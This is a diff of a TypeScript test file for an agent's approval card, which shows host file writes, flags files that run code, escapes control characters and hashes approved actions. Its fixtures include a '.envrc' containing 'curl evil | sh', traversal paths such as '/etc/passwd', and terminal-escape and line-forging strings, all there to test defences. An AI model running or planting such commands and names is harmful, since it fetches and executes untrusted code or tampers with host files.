@@ -1,12 +1,45 @@
 // The approval card: what it holds (plain JSON data), how it renders on a terminal (colour only
 // when asked, escapes always visible), and the action hash an approval binds to: any change to
-// the tool, an argument, a diff line or a base hash changes it, and key order does not.
+// the tool, an argument, a diff line, a byte or a base hash changes it, and key order does not.
+// The files card lists every file first (files that run code on the host before the rest), every
+// change that will not be applied, shows binary and non-UTF-8 content by size and hash, and is
+// bounded: past its limits it is summarised and the full diff comes back for saving.
 import { describe, expect, it } from "vitest";
-import { actionHash, canonicalJson, execCard, filesCard, isBinary, mcpCard, renderCard, sha256Hex, type DiffCard, type FileChange } from "../../src/diff-card.ts";
+import {
+  actionHash,
+  canonicalJson,
+  execCard,
+  filesCard,
+  isBinary,
+  mcpCard,
+  refusedName,
+  renderCard,
+  sha256Hex,
+  type CardLimits,
+  type DiffCard,
+  type FileChange,
+  type SkippedChange,
+} from "../../src/diff-card.ts";
+import { EXECUTABLE_REASON, hostCodeReasons } from "../../src/host-code-files.ts";
 import { visible } from "../../src/terminal-text.ts";
 
 const ESC = "\x1b";
-const change = (path: string, before: string | null, after: string | null): FileChange => ({ path, before, after, baseHash: before === null ? null : sha256Hex(before) });
+type Content = string | Buffer | null;
+const bytes = (c: Content) => (c === null ? null : Buffer.isBuffer(c) ? c : Buffer.from(c));
+const change = (path: string, before: Content, after: Content, modes: { before?: number; after?: number } = {}): FileChange => ({
+  path,
+  before: bytes(before),
+  after: bytes(after),
+  beforeMode: before === null ? null : (modes.before ?? 0o644),
+  afterMode: after === null ? null : (modes.after ?? 0o644),
+  baseHash: before === null ? null : sha256Hex(bytes(before)!),
+});
+const build = async (changes: FileChange[], skipped: SkippedChange[] = [], limits?: Partial<CardLimits>) => {
+  const result = await filesCard(changes, skipped, { limits });
+  return { ...result, text: renderCard(result.card, { color: false }) };
+};
+const side = (content: string | Buffer, mode = 0o644) => ({ size: Buffer.byteLength(content), sha256: sha256Hex(content), mode });
+const lines = (n: number, make: (i: number) => string) => Array.from({ length: n }, (_, i) => `${make(i)}\n`).join("");
 
 describe("canonicalJson", () => {
   it("sorts keys at every depth, so key order never matters", () => {
@@ -31,44 +64,220 @@ describe("canonicalJson", () => {
 });
 
 describe("filesCard", () => {
-  it("gives each change a status, its base hash and a unified diff against the host's content, sorted by path", () => {
-    const card = filesCard([change("src/b.ts", "one\ntwo\n", "one\nthree\n"), change("a.txt", null, "new\n"), change("old.txt", "gone\n", null)]);
+  it("gives each file a status, both sides' sizes, hashes and modes, its base hash and the hunks of its diff, sorted by path", async () => {
+    const { card, fullDiff } = await build([change("src/b.ts", "one\ntwo\n", "one\nthree\n"), change("a.txt", null, "new\n"), change("old.txt", "gone\n", null)]);
     expect(card).toEqual({
       kind: "files",
       title: "Write 3 files to the host (1 added, 1 modified, 1 deleted)",
-      changes: [
-        { path: "a.txt", status: "added", baseHash: null, patch: "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,1 @@\n+new\n" },
-        { path: "old.txt", status: "deleted", baseHash: sha256Hex("gone\n"), patch: "--- a/old.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-gone\n" },
-        { path: "src/b.ts", status: "modified", baseHash: sha256Hex("one\ntwo\n"), patch: "--- a/src/b.ts\n+++ b/src/b.ts\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n" },
+      files: [
+        { path: "a.txt", status: "added", before: null, after: side("new\n"), baseHash: null, diff: { kind: "text", patch: "@@ -0,0 +1,1 @@\n+new\n" } },
+        { path: "old.txt", status: "deleted", before: side("gone\n"), after: null, baseHash: sha256Hex("gone\n"), diff: { kind: "text", patch: "@@ -1,1 +0,0 @@\n-gone\n" } },
+        { path: "src/b.ts", status: "modified", before: side("one\ntwo\n"), after: side("one\nthree\n"), baseHash: sha256Hex("one\ntwo\n"), diff: { kind: "text", patch: "@@ -1,2 +1,2 @@\n one\n-two\n+three\n" } },
       ],
+      notApplied: [],
     });
+    expect(fullDiff).toBeNull();
     // Plain data: what the web inspector will get is exactly this.
     expect(JSON.parse(JSON.stringify(card))).toEqual(card);
-    expect(filesCard([change("x", "a", "b")]).title).toBe("Write 1 file to the host (1 modified)");
+    expect((await build([change("x", "a", "b")])).card.title).toBe("Write 1 file to the host (1 modified)");
   });
 
-  it("says how a binary file changed instead of a patch, naming the new content", () => {
-    const card = filesCard([change("logo.png", "\x89PNG\0\0\x01", "\x89PNG\0\0\x02\x03")]);
-    expect(card.kind === "files" && card.changes[0]!.patch).toBe(`binary file changed (8 bytes → 9 bytes; new sha256 ${sha256Hex("\x89PNG\0\0\x02\x03")})`);
-    const added = filesCard([change("a.bin", null, "\0\0")]);
-    expect(added.kind === "files" && added.changes[0]!.patch).toMatch(/^binary file added \(2 bytes; new sha256 [0-9a-f]{64}\)$/);
-    const deleted = filesCard([change("a.bin", "\0", null)]);
-    expect(deleted.kind === "files" && deleted.changes[0]!.patch).toBe("binary file deleted (1 byte)");
+  it("refuses a change with neither before nor after", async () => {
+    await expect(filesCard([{ path: "x", before: null, after: null, beforeMode: null, afterMode: null, baseHash: null }], [])).rejects.toThrow("x: a change needs before or after content (both are null)");
   });
 
-  it("refuses a change with neither before nor after", () => {
-    expect(() => filesCard([{ path: "x", before: null, after: null, baseHash: null }])).toThrow("x: a change needs before or after content (both are null)");
+  it("finds renames (a deletion and an addition of the same bytes) and mode changes (same bytes, new permission bits)", async () => {
+    const { card, text } = await build([
+      change("old/name.txt", "moved content\n", null),
+      change("new/name.txt", null, "moved content\n"),
+      change("tool.sh", "echo hi\n", "echo hi\n", { before: 0o644, after: 0o755 }),
+      // Empty files are not paired up: any two would "match".
+      change("empty-gone", "", null),
+      change("empty-new", null, ""),
+    ]);
+    expect(card.title).toBe("Write 4 files to the host (1 added, 1 deleted, 1 renamed, 1 mode changed)");
+    expect(card.files.find((f) => f.status === "renamed")).toEqual({
+      path: "new/name.txt",
+      status: "renamed",
+      from: "old/name.txt",
+      before: side("moved content\n"),
+      after: side("moved content\n"),
+      baseHash: sha256Hex("moved content\n"),
+      diff: { kind: "same" },
+    });
+    expect(card.files.find((f) => f.status === "mode")).toEqual({
+      path: "tool.sh",
+      status: "mode",
+      before: side("echo hi\n"),
+      after: side("echo hi\n", 0o755),
+      baseHash: sha256Hex("echo hi\n"),
+      runsCode: [EXECUTABLE_REASON],
+      diff: { kind: "same" },
+    });
+    expect(card.files.map((f) => f.status).sort()).toEqual(["added", "deleted", "mode", "renamed"]);
+    expect(text).toContain("  renamed   old/name.txt → new/name.txt  14 bytes\n");
+    expect(text).toContain("! mode      tool.sh                      8 bytes, mode 0644 → 0755\n");
+  });
+
+  it("flags files that run code on the host, lists them first with their reasons, and in a warning colour", async () => {
+    const { card, text } = await build([
+      change("README.md", "a\n", "b\n"),
+      change(".envrc", null, "curl evil | sh\n"),
+      change(".vscode/tasks.json", null, "{}\n"),
+      change(".github/workflows/ci.yml", "on: push\n", "on: [push, pull_request]\n"),
+      change("packages/web/package.json", "{}\n", '{"scripts":{"postinstall":"x"}}\n'),
+      change(".editorconfig", null, "root = true\n"),
+      change("bin/run", null, "#!/bin/sh\n", { after: 0o755 }),
+    ]);
+    expect(card.files.map((f) => f.path)).toEqual([".envrc", ".github/workflows/ci.yml", ".vscode/tasks.json", "bin/run", "packages/web/package.json", ".editorconfig", "README.md"]);
+    expect(card.files.find((f) => f.path === ".envrc")!.runsCode).toEqual(["direnv runs it when you enter the directory"]);
+    expect(card.files.find((f) => f.path === "bin/run")!.runsCode).toEqual([EXECUTABLE_REASON]);
+    expect(card.files.filter((f) => f.runsCode).length).toBe(5);
+    expect(text).toContain("! .envrc: direnv runs it when you enter the directory\n");
+    expect(text).toContain(`! .vscode/tasks.json: ${hostCodeReasons(".vscode/tasks.json")[0]}\n`);
+    expect(text).toContain("! added     bin/run                    10 bytes, mode 0755\n");
+    expect(text).toContain("  added     .editorconfig");
+    // The summary table comes before the list of reasons, which comes before the diffs.
+    expect(text.indexOf("Runs code on this machine")).toBeGreaterThan(text.indexOf("README.md"));
+    expect(text.indexOf("── added .envrc")).toBeGreaterThan(text.indexOf("Runs code on this machine"));
+    const coloured = renderCard(card, { color: true });
+    expect(coloured).toContain(`${ESC}[33m! .envrc: direnv runs it when you enter the directory${ESC}[39m`);
+  });
+
+  it("knows the usual host-code files, case-insensitively and in any directory, and leaves harmless ones alone", () => {
+    for (const path of [".envrc", "sub/.envrc", ".env.local", ".VSCode/tasks.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".github/workflows/release.yaml", ".gitlab-ci.yml", ".circleci/config.yml", "package.json", ".npmrc", ".yarnrc.yml", "Makefile", "rules.mk", "setup.py", "pyproject.toml", "setup.cfg", "tests/conftest.py", "tox.ini", "noxfile.py", "build.gradle.kts", "pom.xml", "Cargo.toml", "build.rs", ".cargo/config.toml", "Gemfile", "Rakefile", "composer.json", ".gitattributes", ".gitmodules", ".pre-commit-config.yaml", ".husky/pre-commit", "Dockerfile", "docker-compose.override.yml", ".tool-versions", ".mise.toml", ".bashrc", ".zshrc", ".profile", "CMakeLists.txt", "meson.build", "justfile", "Taskfile.yml", "vite.config.ts", "package-lock.json"]) {
+      expect(hostCodeReasons(path), path).not.toEqual([]);
+    }
+    for (const path of [".editorconfig", ".gitignore", "README.md", "src/index.ts", "docs/package.md", "Makefile.txt", ".github/ISSUE_TEMPLATE/bug.md"]) expect(hostCodeReasons(path), path).toEqual([]);
+  });
+
+  it("lists every change that will not be applied, with why", async () => {
+    const skipped = [
+      { path: ".git/config", kind: "file", why: ".git/ is never written back" },
+      { path: "link", kind: "symbolic link", why: "a symbolic link" },
+    ];
+    const { card, text } = await build([change("a.txt", null, "a\n")], skipped);
+    expect(card.notApplied).toEqual(skipped);
+    expect(card.title).toBe("Write 1 file to the host (1 added; 2 changes not applied)");
+    expect(text).toContain("Not applied (left in the sandbox):\n- .git/config (file): .git/ is never written back\n- link (symbolic link): a symbolic link\n");
+    expect((await build([], skipped)).card.title).toBe("Write 0 files to the host (2 changes not applied)");
+  });
+
+  it("shows a name with control characters escaped and refuses it, so a newline in a name cannot forge a card line", async () => {
+    const forged = "notes.txt\n! added     .envrc\n── added safe.txt";
+    const { card, text } = await build([change(forged, null, "x\n"), change("safe.txt", null, "ok\n")]);
+    expect(card.files.map((f) => f.path)).toEqual(["safe.txt"]);
+    expect(card.notApplied).toEqual([{ path: forged, kind: "file", why: "the name holds control characters" }]);
+    expect(text).toContain("- notes.txt\\n! added     .envrc\\n── added safe.txt (file): the name holds control characters\n");
+    const out = text.split("\n");
+    expect(out.filter((l) => l.startsWith("! "))).toEqual([]);
+    expect(out.filter((l) => l.startsWith("── "))).toEqual([expect.stringMatching(/^── Write 1 file/), "── added safe.txt"]);
+  });
+
+  it("refusedName: control characters, and anything but a plain relative path", () => {
+    for (const bad of ["a\nb", "tab\there", "x\x1b[2J", "rtl\u202etxt", "/etc/passwd", "../up", "a/../b", "./a", "a//b", "a/", ""]) expect(refusedName(bad), JSON.stringify(bad)).not.toBeNull();
+    expect(refusedName("a\nb")).toBe("the name holds control characters");
+    for (const good of ["a.txt", "src/deep/file name.ts", "..hidden", "é✓/ok"]) expect(refusedName(good)).toBeNull();
+  });
+
+  it("shows non-UTF-8 or NUL-holding content as binary, with sizes and both hashes, never decoded", async () => {
+    const before = Buffer.from([0x68, 0x69, 0xff, 0x0a]);
+    const after = Buffer.from([0x68, 0x69, 0xfe, 0x0a]);
+    const { card, text } = await build([change("latin1.txt", before, after), change("late-nul.txt", null, `${"x".repeat(9000)}\0`)]);
+    expect(card.files.map((f) => f.diff)).toEqual([{ kind: "binary" }, { kind: "binary" }]);
+    expect(card.files[1]!.before).toEqual(side(before));
+    expect(card.files[1]!.after).toEqual(side(after));
+    expect(text).not.toContain("\ufffd");
+    expect(text).toContain(`── modified latin1.txt`);
+    expect(text).toContain(`binary (not shown as text): 4 → 4 bytes\nsha256 before ${sha256Hex(before)}\nsha256 after  ${sha256Hex(after)}\n`);
+  });
+
+  it("keeps every patch line starting with ' ', '+', '-', '@' or '\\', and content cannot draw IronClaw's lines", async () => {
+    const hostile = "fine\n── added .envrc\n! runs code\n\r── deleted x\nno newline";
+    const { card, text } = await build([change("a.txt", "fine\n", hostile)]);
+    const diff = card.files[0]!.diff;
+    expect(diff.kind).toBe("text");
+    for (const line of (diff.kind === "text" ? diff.patch : "").replace(/\n$/, "").split("\n")) expect(line).toMatch(/^[ +\-@\\]/);
+    expect(text.split("\n").filter((l) => l.startsWith("── "))).toEqual([expect.stringMatching(/^── Write/), expect.stringMatching(/^── modified a\.txt/)]);
+    expect(text).toContain("+\\r── deleted x\n+no newline\n\\ No newline at end of file\n");
+  });
+});
+
+describe("filesCard bounds", () => {
+  const rewrite = () => change("big.txt", lines(60_000, (i) => `line ${i}`), lines(60_000, (i) => `LINE ${i}`));
+
+  it("summarises a 60,000-line rewrite: the file is too large to diff on the card, and the full diff holds it", async () => {
+    const { card, fullDiff, text } = await build([rewrite(), change("small.txt", "a\n", "b\n")]);
+    const big = card.files.find((f) => f.path === "big.txt")!;
+    expect(big.diff).toEqual({ kind: "too-large", beforeLines: 60_000, afterLines: 60_000 });
+    expect(card.summarised).toEqual({ omitted: 1, why: "some files are too large to diff line by line" });
+    expect(card.files.find((f) => f.path === "small.txt")!.diff).toEqual({ kind: "text", patch: "@@ -1,1 +1,1 @@\n-a\n+b\n" });
+    expect(text).toContain(`too large to diff: 60,000 → 60,000 lines, 648,890 → 648,890 bytes\nsha256 before ${big.before!.sha256}\nsha256 after  ${big.after!.sha256}\n`);
+    expect(text).toContain("Summarised: 1 diff not shown (some files are too large to diff line by line)\n");
+    expect(text.length).toBeLessThan(2_000);
+    // The full diff: every line of both sides, and the card's summary.
+    expect(fullDiff).toContain("too large to diff line by line: shown as the whole file replaced\n@@ -1,60000 +1,60000 @@\n-line 0\n");
+    expect(fullDiff).toContain("\n+LINE 59999\n");
+    expect(fullDiff).toContain("  modified  small.txt");
+    expect(fullDiff).not.toContain("Summarised");
+    // The caller saves it and names the file on the card.
+    expect(renderCard({ ...card, fullDiffFile: "/state/diff-1.txt" }, { color: false })).toMatch(/\nfull diff: \/state\/diff-1\.txt\n$/);
+  });
+
+  it("stops showing diffs past the card's line and size bounds, keeps every summary line, and puts the rest in the full diff", async () => {
+    const changes = ["a", "b", "c", "d"].map((n) => change(`${n}.txt`, null, lines(4, (i) => `${n}${i}`)));
+    const { card, fullDiff, text } = await build(changes, [], { maxPatchLines: 12 });
+    expect(card.files.map((f) => f.diff.kind)).toEqual(["text", "text", "omitted", "omitted"]);
+    expect(card.summarised).toEqual({ omitted: 2, why: "the card shows at most 12 lines and 1,024 KiB of diff" });
+    for (const n of ["a", "b", "c", "d"]) expect(text).toContain(`  added     ${n}.txt  12 bytes\n`);
+    expect(text).not.toContain("+c0");
+    expect(fullDiff).toContain("── added c.txt\n@@ -0,0 +1,4 @@\n+c0\n");
+    expect(fullDiff).toContain("+d3\n");
+    const bySize = await build(changes, [], { maxPatchChars: 40 });
+    expect(bySize.card.files.map((f) => f.diff.kind)).toEqual(["text", "omitted", "omitted", "omitted"]);
+  });
+
+  it("computes no diff once the card's time is spent: the full diff shows whole files", async () => {
+    const { card, fullDiff } = await build([change("a.txt", "1\n2\n", "1\n3\n")], [], { totalTimeMs: 0 });
+    expect(card.files[0]!.diff).toEqual({ kind: "omitted" });
+    expect(card.summarised).toEqual({ omitted: 1, why: "the card's 0 seconds for diffing ran out" });
+    expect(fullDiff).toContain("@@ -1,2 +1,2 @@\n-1\n-2\n+1\n+3\n");
+  });
+
+  it("does not decode a side larger than maxFileBytes", async () => {
+    const { card, fullDiff } = await build([change("log.txt", "a\nb\n", "a\nb\nc")], [], { maxFileBytes: 4 });
+    expect(card.files[0]!.diff).toEqual({ kind: "too-large", beforeLines: 2, afterLines: 3 });
+    expect(card.summarised).toBeUndefined();
+    expect(fullDiff).toBeNull();
+  });
+
+  it("lists at most maxNotAppliedShown changes not applied on the card, and all of them in the full diff", async () => {
+    const skipped = Array.from({ length: 5 }, (_, i) => ({ path: `.git/objects/${i}`, kind: "file", why: ".git/ is never written back" }));
+    const { card, fullDiff, text } = await build([], skipped, { maxNotAppliedShown: 2 });
+    expect(card.notApplied.map((s) => s.path)).toEqual([".git/objects/0", ".git/objects/1"]);
+    expect(card.notAppliedHidden).toBe(3);
+    expect(text).toContain("- and 3 more changes, listed in the full diff\n");
+    expect(fullDiff).toContain("- .git/objects/4 (file): .git/ is never written back\n");
+  });
+
+  it("yields while building, and rejects with an AbortError as soon as its signal aborts", async () => {
+    const controller = new AbortController();
+    // Runs only if building hands the event loop back before it is done.
+    setImmediate(() => controller.abort());
+    await expect(filesCard([rewrite()], [], { signal: controller.signal })).rejects.toMatchObject({ name: "AbortError" });
+    await expect(filesCard([change("a", "1", "2")], [], { signal: AbortSignal.abort() })).rejects.toMatchObject({ name: "AbortError" });
   });
 });
 
 describe("isBinary", () => {
-  it("is git's NUL test, and for bytes also invalid UTF-8", () => {
+  it("is git's NUL test for strings; for bytes, a NUL anywhere or invalid UTF-8", () => {
     expect(isBinary("plain text\n")).toBe(false);
     expect(isBinary("a\0b")).toBe(true);
     expect(isBinary(Buffer.from("héllo ✓\n"))).toBe(false);
     expect(isBinary(Buffer.from([0x48, 0x00, 0x49]))).toBe(true);
     expect(isBinary(Buffer.from([0xff, 0xfe, 0x41]))).toBe(true);
     expect(isBinary(`${"x".repeat(9000)}\0`)).toBe(false);
+    expect(isBinary(Buffer.from(`${"x".repeat(9000)}\0`))).toBe(true);
   });
 });
 
@@ -99,17 +308,21 @@ describe("execCard and mcpCard", () => {
 });
 
 describe("actionHash", () => {
-  const files = (lines: string, base = "one\n") => filesCard([{ path: "a.txt", before: base, after: lines, baseHash: sha256Hex(base) }]);
-  const base = { tool: "apply", args: { paths: ["a.txt"], message: "fix" }, card: files("one\ntwo\n") };
-  const hash = actionHash(base);
+  const files = async (after: string, before = "one\n", path = "a.txt", baseHash = sha256Hex(before)) => (await build([{ ...change(path, before, after), baseHash }])).card;
+  const hashOf = async () => {
+    const base = { tool: "apply", args: { paths: ["a.txt"], message: "fix" }, card: await files("one\ntwo\n") };
+    return { base, hash: actionHash(base) };
+  };
 
-  it("is SHA-256 hex over the canonical JSON of tool, arguments and card", () => {
+  it("is SHA-256 hex over the canonical JSON of tool, arguments and card", async () => {
+    const { base, hash } = await hashOf();
     expect(hash).toMatch(/^[0-9a-f]{64}$/);
     expect(hash).toBe(sha256Hex(canonicalJson({ tool: base.tool, args: base.args, card: base.card })));
     expect(actionHash({ ...base })).toBe(hash);
   });
 
-  it("does not depend on key order", () => {
+  it("does not depend on key order", async () => {
+    const { base, hash } = await hashOf();
     const reversed = (v: unknown): unknown =>
       Array.isArray(v) ? v.map(reversed) : v && typeof v === "object" ? Object.fromEntries(Object.entries(v).reverse().map(([k, x]) => [k, reversed(x)])) : v;
     const reordered = { card: reversed(base.card) as DiffCard, args: { message: "fix", paths: ["a.txt"] }, tool: "apply" };
@@ -120,26 +333,37 @@ describe("actionHash", () => {
     expect(actionHash({ tool: "t", args: { x: 1, y: { b: 2, a: 1 } }, card: a })).toBe(actionHash({ tool: "t", args: { y: { a: 1, b: 2 }, x: 1 }, card: b }));
   });
 
-  it("changes when the tool, any argument, any diff line or a base hash changes", () => {
+  it("changes when the tool, any argument, any diff line, a mode, the saved diff's name or a base hash changes", async () => {
+    const { base, hash } = await hashOf();
     const variants = [
       { ...base, tool: "apply2" },
       { ...base, args: { ...base.args, message: "fix!" } },
       { ...base, args: { ...base.args, paths: ["a.txt", "b.txt"] } },
       { ...base, args: { ...base.args, extra: null } },
-      { ...base, card: files("one\ntwo \n") },
-      { ...base, card: files("one\ntwo\nthree\n") },
-      { ...base, card: files("one\ntwo") },
-      { ...base, card: files("one\ntwo\n", "One\n") },
-      { ...base, card: filesCard([{ path: "a.txt", before: "one\n", after: "one\ntwo\n", baseHash: sha256Hex("other") }]) },
-      { ...base, card: filesCard([{ path: "b.txt", before: "one\n", after: "one\ntwo\n", baseHash: sha256Hex("one\n") }]) },
+      { ...base, card: await files("one\ntwo \n") },
+      { ...base, card: await files("one\ntwo\nthree\n") },
+      { ...base, card: await files("one\ntwo") },
+      { ...base, card: await files("one\ntwo\n", "One\n") },
+      { ...base, card: await files("one\ntwo\n", "one\n", "a.txt", sha256Hex("other")) },
+      { ...base, card: await files("one\ntwo\n", "one\n", "b.txt") },
+      { ...base, card: (await build([change("a.txt", "one\n", "one\ntwo\n", { after: 0o600 })])).card },
+      { ...base, card: { ...base.card, fullDiffFile: "/x" } },
     ];
     const hashes = new Set([hash, ...variants.map(actionHash)]);
     expect(hashes.size).toBe(variants.length + 1);
   });
 
-  it("tells apart two binary changes of the same size", () => {
-    const bin = (after: string) => actionHash({ tool: "apply", args: {}, card: filesCard([change("x.bin", "\0a", after)]) });
-    expect(bin("\0b")).not.toBe(bin("\0c"));
+  it("binds exact bytes: two contents that render the same hash differently", async () => {
+    // An escape byte, and the four characters that show it: the same diff text, different files.
+    const raw = await build([change("a.txt", "x\n", "x\x1b\n")]);
+    const shown = await build([change("a.txt", "x\n", "x\\x1b\n")]);
+    const diffPart = (text: string) => text.slice(text.indexOf("\n── modified"));
+    expect(diffPart(raw.text)).toBe(diffPart(shown.text));
+    expect(actionHash({ tool: "apply", args: {}, card: raw.card })).not.toBe(actionHash({ tool: "apply", args: {}, card: shown.card }));
+    // Two invalid UTF-8 bytes that both decode to U+FFFD, and two binaries of the same size.
+    const bin = async (after: Buffer) => actionHash({ tool: "apply", args: {}, card: (await build([change("x.bin", Buffer.from([0x61]), after)])).card });
+    expect(await bin(Buffer.from([0x61, 0xff]))).not.toBe(await bin(Buffer.from([0x61, 0xfe])));
+    expect(await bin(Buffer.from("\0b"))).not.toBe(await bin(Buffer.from("\0c")));
   });
 
   it("changes with any MCP argument or exec field", () => {
@@ -153,35 +377,37 @@ describe("actionHash", () => {
 });
 
 describe("renderCard", () => {
-  const card = filesCard([change("src/a.ts", "one\ntwo\n", "one\nthree\n")]);
+  const simple = async () => (await filesCard([change("src/a.ts", "one\ntwo\n", "one\nthree\n")], [])).card;
 
-  it("colours added lines green, removed red, headers bold when asked", () => {
-    const out = renderCard(card, { color: true });
+  it("colours added lines green, removed red, hunk headers cyan when asked", async () => {
+    const out = renderCard(await simple(), { color: true });
     expect(out).toContain(`${ESC}[32m+three${ESC}[39m`);
     expect(out).toContain(`${ESC}[31m-two${ESC}[39m`);
-    expect(out).toContain(`${ESC}[1m--- a/src/a.ts${ESC}[22m`);
+    expect(out).toContain(`${ESC}[36m@@ -1,2 +1,2 @@${ESC}[39m`);
   });
 
-  it("gives plain text with no escape codes without colour (NO_COLOR, not a TTY)", () => {
+  it("gives plain text with no escape codes without colour (NO_COLOR, not a TTY): title, summary, then diffs", async () => {
+    const card = await simple();
     const cards: DiffCard[] = [
       card,
       execCard({ argv: ["sh", "-c", "echo 'hi'"], cwd: "/w", envNames: ["TOKEN"], network: true }),
       mcpCard({ server: "gh", tool: "t", args: { a: 1 }, annotations: { readOnlyHint: true } }),
-      filesCard([]),
+      (await filesCard([], [])).card,
     ];
     for (const c of cards) expect(renderCard(c, { color: false })).not.toContain(ESC);
-    expect(renderCard(card, { color: false, width: 40 })).toBe(
+    const title = "── Write 1 file to the host (1 modified) ";
+    expect(renderCard(card, { color: false, width: 60 })).toBe(
       [
-        "── Write 1 file to the host (1 modified) ",
-        "modified src/a.ts  base sha256 " + sha256Hex("one\ntwo\n").slice(0, 12),
-        "--- a/src/a.ts",
-        "+++ b/src/a.ts",
+        title + "─".repeat(60 - title.length),
+        "  modified  src/a.ts  8 → 10 bytes",
+        "",
+        `── modified src/a.ts  base sha256 ${sha256Hex("one\ntwo\n").slice(0, 12)}`,
         "@@ -1,2 +1,2 @@",
         " one",
         "-two",
         "+three",
         "",
-      ].join("\n").replace("(1 modified) ", `(1 modified) ${"─".repeat(Math.max(2, 40 - "── Write 1 file to the host (1 modified) ".length))}`),
+      ].join("\n"),
     );
     expect(renderCard(cards[1]!, { color: false })).toContain("command   sh -c 'echo '\\''hi'\\'''\n");
     expect(renderCard(cards[1]!, { color: false })).toContain("network   yes: the command may reach the network\n");
@@ -189,17 +415,27 @@ describe("renderCard", () => {
     expect(renderCard(cards[3]!, { color: false })).toContain("(no changes)");
   });
 
-  it("shows control and bidi characters from the content as escapes, never raw", () => {
-    const hostile = filesCard([change("evil\x1b[2J.txt", "ok\n", "ok\x1b[2K\rall fine \u202eexe.txt\n")]);
+  it("shows control and bidi characters from the content as escapes, never raw", async () => {
+    const hostile = (await filesCard([change("src/evil.txt", "ok\n", "ok\x1b[2K\rall fine \u202eexe.txt\n")], [])).card;
     const out = renderCard(hostile, { color: false });
     expect(out).not.toContain(ESC);
     expect(out).not.toContain("\r");
     expect(out).not.toContain("\u202e");
     expect(out).toContain("+ok\\x1b[2K\\rall fine \\u202eexe.txt");
-    expect(out).toContain("modified evil\\x1b[2J.txt");
     expect(visible("tab\tstays")).toBe("tab\tstays");
     expect(visible("a\u{e0041}b ✓ é")).toBe("a\\u{e0041}b ✓ é");
     const call = renderCard(mcpCard({ server: "s", tool: "t", args: { x: "\u0085\u200b" } }), { color: true });
     expect(call).not.toMatch(/[\u0085\u200b]/);
+  });
+
+  it("keeps a tool's, server's, command's or cwd's newline from starting a line of its own", () => {
+    const call = renderCard(mcpCard({ server: "s\nnetwork   no", tool: "t\narguments", args: { a: "x\ny" } }), { color: false }).split("\n");
+    expect(call).toContain("server    s\\nnetwork   no");
+    expect(call).toContain("tool      t\\narguments");
+    expect(call.filter((l) => l.startsWith("network") || l === "arguments")).toEqual(["arguments"]);
+    const exec = renderCard(execCard({ argv: ["ls", "a\nnetwork   no"], cwd: "/w\nenv", envNames: ["A\nB"], network: true }), { color: false }).split("\n");
+    expect(exec).toContain("command   ls 'a\\nnetwork   no'");
+    expect(exec).toContain("cwd       /w\\nenv");
+    expect(exec.filter((l) => l.startsWith("network"))).toEqual(["network   yes: the command may reach the network"]);
   });
 });
